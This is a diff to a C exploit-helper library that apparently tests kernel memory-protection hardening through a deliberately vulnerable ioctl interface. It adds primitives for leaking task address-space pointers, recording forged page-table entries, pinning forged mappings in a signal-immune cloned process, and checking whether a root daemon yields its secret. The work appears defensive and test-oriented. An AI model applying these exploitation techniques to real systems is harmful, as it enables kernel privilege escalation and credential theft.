@@ -3,6 +3,8 @@
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
+#include <sched.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -90,14 +92,19 @@ struct kpkeys_vuln_entry vuln_entry(int pid, const void *vaddr, int level)
 	return e;
 }
 
-u64 vuln_file_phys(const char *path)
+struct kpkeys_vuln_file vuln_file(const char *path)
 {
 	struct kpkeys_vuln_file f = { .path = (uintptr_t)path };
 
 	if (!path)
 		die("the file is missing; run this through /bin/attack");
 	vuln_ioctl(KPKEYS_VULN_FILE, &f, "leaking a page of the page cache");
-	return f.phys;
+	return f;
+}
+
+u64 vuln_file_phys(const char *path)
+{
+	return vuln_file(path).phys;
 }
 
 struct kpkeys_vuln_cred vuln_cred(void)
@@ -106,6 +113,14 @@ struct kpkeys_vuln_cred vuln_cred(void)
 
 	vuln_ioctl(KPKEYS_VULN_CRED, &c, "leaking the credentials");
 	return c;
+}
+
+struct kpkeys_vuln_task vuln_task(int pid)
+{
+	struct kpkeys_vuln_task t = { .pid = pid };
+
+	vuln_ioctl(KPKEYS_VULN_TASK, &t, "leaking a pointer to an address space");
+	return t;
 }
 
 struct kpkeys_vuln_reg vuln_reg(int pid, int reg)
@@ -278,6 +293,7 @@ struct own_page own_page(const char *path)
 	page.addr = e.addr;
 	page.value = e.value | vuln_info()->sync;
 	page.forged = secret | vuln_info()->pte_user;
+	page.table = e.page;
 	return page;
 }
 
@@ -291,6 +307,32 @@ void own_page_use(const struct own_page *page)
 {
 	own_page_sync(page);
 	steal_and_alter(page->start);
+}
+
+static noreturn int sleep_for_ever(void *unused)
+{
+	sigset_t all;
+
+	(void)unused;
+	/* The end of the session is a signal. */
+	sigfillset(&all);
+	sigprocmask(SIG_BLOCK, &all, NULL);
+	for (;;)
+		pause();
+}
+
+/*
+ * Have another process keep what this one has, by flags of clone(): what was
+ * forged would be freed with it otherwise. Returns its number.
+ */
+int keep_for_ever(int what)
+{
+	static char stack[16384] __attribute__((aligned(16)));
+	int pid = clone(sleep_for_ever, stack + sizeof(stack), what, NULL);
+
+	if (pid < 0)
+		die_errno("clone");
+	return pid;
 }
 
 bool is_token(const char *text)
@@ -354,11 +396,10 @@ void steal_and_alter_as_root(const char *path)
 	close(fd);
 }
 
-/* Send the root daemon a request; exit unless it answers with its secret. */
-void ask_daemon(char token[TOKEN_LEN])
+/* Send the root daemon a request. Returns whether it answers with its secret. */
+bool ask_daemon(char token[TOKEN_LEN])
 {
 	if (write(FD_REQUEST, "?", 1) != 1)
 		die_errno("asking the daemon");
-	if (read(FD_REPLY, token, TOKEN_LEN) != TOKEN_LEN || !is_token(token))
-		die("the daemon refused");
+	return read(FD_REPLY, token, TOKEN_LEN) == TOKEN_LEN && is_token(token);
 }
